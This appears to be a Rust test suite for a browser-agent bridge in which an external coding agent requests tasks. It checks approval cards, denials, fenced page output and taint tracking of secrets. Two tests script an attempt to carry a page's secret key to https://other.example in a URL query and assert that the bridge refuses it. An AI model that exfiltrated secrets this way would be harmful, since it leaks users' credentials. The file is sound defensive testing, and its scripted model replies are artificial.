//! A whole task an external agent asks for (`run_task`), with the agent's own loop against
//! the in-memory shop and a scripted model: its cards name the client, a denial is reported
//! as denied and nothing is sent, and what the client read cannot be laundered through the
//! task's words (nor what the task read through the client's later calls).

use super::*;
use crate::agent::{Agent, NoJournal};
use crate::bridge::{ClientTaskOperator, may_continue, task_report, task_status};
use crate::record::{Ending, TaskOutcome};
use crate::session::{Session, TaskRecord};
use waymark_protocol::{BridgeTaskStatus, ErrorBody, LlmCompletion, LlmRequest, ToolCall};

/// The model: the navigator's replies from a queue, plan and verdict by default.
struct Model {
    navigator: RefCell<VecDeque<LlmCompletion>>,
}

fn calls(calls: &[(&str, &str)]) -> LlmCompletion {
    LlmCompletion {
        tool_calls: calls
            .iter()
            .enumerate()
            .map(|(i, (name, args))| ToolCall {
                id: format!("c{i}"),
                name: (*name).into(),
                arguments: (*args).into(),
            })
            .collect(),
        ..LlmCompletion::default()
    }
}

impl crate::platform::Llm for Model {
    async fn complete(&self, request: LlmRequest) -> Result<LlmCompletion, ErrorBody> {
        Ok(match request.role.as_str() {
            "planner" => calls(&[("plan", r#"{"steps":[{"phase":"form","goal":"do it"}]}"#)]),
            "validator" => calls(&[("verdict", r#"{"confirmed":true,"reason":"shown"}"#)]),
            _ => {
                self.navigator.borrow_mut().pop_front().expect("the test scripted too few replies")
            }
        })
    }
}

const GIVE_UP: (&str, &str) = ("done", r#"{"answer":"I could not do it","success":false}"#);

impl World {
    /// Runs `prompt` as a task this world's client asks for, the model answering `script`.
    fn task(&mut self, prompt: &str, script: Vec<LlmCompletion>) -> (TaskOutcome, TaskRecord) {
        let browser = FakeBrowser(self.shop.clone());
        let llm = Model { navigator: RefCell::new(script.into()) };
        let spec = self.session.task_spec(prompt).expect("spec");
        assert_eq!(spec.shown_task(), format!("Claude Code asked: {prompt}"));
        let operator = ClientTaskOperator::new(self.panel.clone(), "Claude Code");
        let tab = block_on(self.session.work_tab(&browser)).expect("tab");
        let page = browser.page(tab);
        let agent = Agent {
            llm: &llm,
            page: &page,
            env: &Clock,
            events: &self.timeline,
            operator: &operator,
            journal: &NoJournal,
        };
        let (ctx, outcome) = block_on(self.session.run_task(&browser, &agent, spec)).expect("run");
        let mut record = TaskRecord::noted(1, &ctx.spec.shown_task(), &outcome, 0.0, &ctx.taint);
        record.asked_by = ctx.spec.asked_by.clone();
        (outcome, record)
    }
}

#[test]
fn a_task_the_client_asked_for_names_it_on_its_card_and_reports_its_findings() {
    let mut w = World::new(vec![Reply::approve()]);
    let (outcome, record) = w.task(
        "Fill Ada and save",
        vec![
            calls(&[("type", r#"{"ref":1,"text":"Ada"}"#), ("click", r#"{"ref":2}"#)]),
            calls(&[("done", r#"{"answer":"Saved Ada.","success":true}"#)]),
        ],
    );
    assert_eq!(task_status(&outcome), BridgeTaskStatus::Done, "{outcome:?}");
    let cards = w.panel.cards.borrow();
    assert_eq!(cards.len(), 1, "{cards:?}");
    assert!(
        cards[0].message.starts_with("Claude Code wants to submit the form (“Save”)"),
        "{}",
        cards[0].message
    );
    assert_eq!(w.shop.acts.borrow().len(), 2, "typed and clicked once each");
    assert_eq!(record.task, "Claude Code asked: Fill Ada and save");

    let out = task_report(&outcome, &record, "s42", "n0nce");
    let report = out.task.expect("a report");
    assert_eq!(report.status, BridgeTaskStatus::Done);
    assert_eq!((report.session.as_str(), report.turn), ("s42", 1));
    assert!(out.text.starts_with("Task done in 2 steps."), "{}", out.text);
    let fence = out.text.find("<page_content id=n0nce>").expect("fenced");
    assert!(out.text.find("Saved Ada.").expect("answer") > fence, "the answer is inside");
    assert!(out.text.contains("Session: s42 (turn 1)"), "{}", out.text);
}

#[test]
fn a_denied_card_ends_the_task_as_denied_and_nothing_is_sent() {
    let mut w = World::new(vec![Reply::default()]);
    let (outcome, record) =
        w.task("Save the form", vec![calls(&[("click", r#"{"ref":2}"#)]), calls(&[GIVE_UP])]);
    assert_eq!(outcome.ending, Ending::Refused);
    assert_eq!(task_status(&outcome), BridgeTaskStatus::Denied);
    assert!(w.shop.acts.borrow().is_empty(), "the click was not done");
    let out = task_report(&outcome, &record, "s1", "n");
    assert!(out.text.starts_with("The user denied"), "{}", out.text);
}

#[test]
fn what_the_client_read_cannot_be_laundered_through_its_task_words() {
    let mut w = World::new(vec![]);
    // The client reads the key on shop.example, then asks for a task that carries it to a
    // site the task names: the user's words may go there, the page's key may not.
    let snap = w.call(BridgeCall::Snapshot).expect("snapshot").text;
    assert!(!snap.contains(KEY) && snap.contains("⟨secret:1 "), "a handle: {snap}");
    // A client that has the key from elsewhere writes it into its task.
    let (outcome, _) = w.task(
        &format!("Open https://other.example/?q={KEY}"),
        vec![
            calls(&[("navigate", &format!(r#"{{"url":"https://other.example/?q={KEY}"}}"#))]),
            calls(&[GIVE_UP]),
        ],
    );
    assert_eq!(task_status(&outcome), BridgeTaskStatus::Refused, "{outcome:?}");
    let refusal = outcome.steps[0].outcome.error.clone().unwrap_or_default();
    assert!(refusal.contains("https://shop.example"), "names where it was read: {refusal}");
    assert!(w.panel.cards.borrow().is_empty(), "refused outright, no card to approve");
    assert!(w.shop.acts.borrow().is_empty());
}

#[test]
fn what_a_task_read_cannot_leave_through_the_clients_later_calls() {
    let mut w = World::new(vec![]);
    let (outcome, _) = w.task("Read the page", vec![calls(&[GIVE_UP])]);
    assert_eq!(task_status(&outcome), BridgeTaskStatus::Failed);
    let err = w
        .call(BridgeCall::Navigate { url: format!("https://other.example/?k={KEY}") })
        .expect_err("refused");
    assert_eq!(err.kind, BridgeFailureKind::Refused, "{err:?}");
    assert!(w.panel.cards.borrow().is_empty());
}

#[test]
fn only_sessions_external_agents_started_may_be_continued() {
    let outcome = TaskOutcome {
        answer: "a".into(),
        success: true,
        error: None,
        steps: vec![],
        step_count: 1,
        elapsed_ms: 0.0,
        ending: Ending::Finished,
    };
    let mut session = Session::new("s".into(), 0.0);
    assert!(may_continue(&session).is_err(), "an empty session is the user's");
    let mut theirs = TaskRecord::from_outcome(0, "Claude Code asked: x", &outcome, 0.0);
    theirs.asked_by = Some("Claude Code".into());
    session.push(theirs);
    assert!(may_continue(&session).is_ok());
    session.push(TaskRecord::from_outcome(0, "my own task", &outcome, 0.0));
    let err = may_continue(&session).expect_err("the user's task is in it");
    assert_eq!(err.kind, BridgeFailureKind::Refused);
    let err = World::new(vec![]).session.task_spec("  ").expect_err("empty");
    assert_eq!(err.kind, BridgeFailureKind::BadArguments);
}

#[test]
fn a_restarted_worker_ends_a_clients_task_instead_of_resuming_it() {
    use crate::agent::{JournalEntry, TaskContext, TaskSpec};
    let theirs = TaskSpec { asked_by: Some("Claude Code".into()), ..TaskSpec::new("Order it") };
    let mut ctx = TaskContext::replay(&[JournalEntry::Started { spec: theirs }]).expect("ctx");
    ctx.step = 2;
    let outcome = crate::bridge::not_resumed(&ctx, 10.0).expect("not resumed");
    assert_eq!(outcome.ending, Ending::Failed);
    assert!(outcome.answer.contains("did not resume it"), "{}", outcome.answer);
    assert_eq!(outcome.step_count, 2);
    let mine = TaskContext::replay(&[JournalEntry::Started { spec: TaskSpec::new("Order it") }]);
    assert!(crate::bridge::not_resumed(&mine.expect("ctx"), 10.0).is_none(), "the user's resumes");
}
